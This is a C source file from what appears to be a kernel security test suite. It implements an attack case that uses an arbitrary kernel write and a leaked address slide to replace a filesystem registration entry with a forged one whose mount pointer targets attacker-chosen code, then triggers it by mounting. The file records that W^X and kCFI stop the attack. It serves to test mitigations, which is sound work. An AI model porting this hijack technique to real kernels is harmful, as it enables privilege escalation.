/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Registrations: the entry of a file system in the kernel's set of them is made to point to one of the attacker's,
 * which is then mounted.
 */
#include "attacks.h"

#include <kernel/linkset.h>
#include <kernel/systest.h>
#include <kernel/vfs.h>

LINKSET_DECLARE(filesystem);

/* 0, or what mount said. */
static long mount(const char *type)
{
	return sys(SYS_mount, systest_string(0, "none"), systest_string(64, "/tmp"), systest_string(128, type), 0, 0);
}

static void mount_ramfs(void *result)
{
	sys(SYS_mkdir, systest_string(64, "/tmp"), 0777);
	*(bool *)result = mount("tmpfs") == 0 && sys(SYS_umount2, systest_string(64, "/tmp"), 0) == 0;
}

static bool benign(const struct attack *attack)
{
	bool right = false;

	return attack_in_process(mount_ramfs, &right) && right;
}

static void mount_forged(void *arg)
{
	sys(SYS_mkdir, systest_string(64, "/tmp"), 0777);
	mount("forged");
}

static void overwrite(const struct attack *attack, uintptr_t slide)
{
	static struct filesystem forged = { .name = "forged" };
	uint64_t goal = attack_linked_code(attack_goal) + slide;

	if (__start_filesystem_set == __stop_filesystem_set)
		attack_not_applicable(attack, "this kernel has no file systems");
	memcpy(&forged.mount, &goal, sizeof(goal));
	attack_primitive(attack);
	attack_write64(attack_linked(&__start_filesystem_set[0]) + slide, attack_linked(&forged) + slide);
	attack_in_process(mount_forged, NULL);
}

static void run(const struct attack *attack)
{
	overwrite(attack, attack_leaked_slide());
}

ATTACK(registration, .family = "registrations", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "wx kcfi", .about = "the set of file systems gets a forged one", .run = run, .benign = benign);
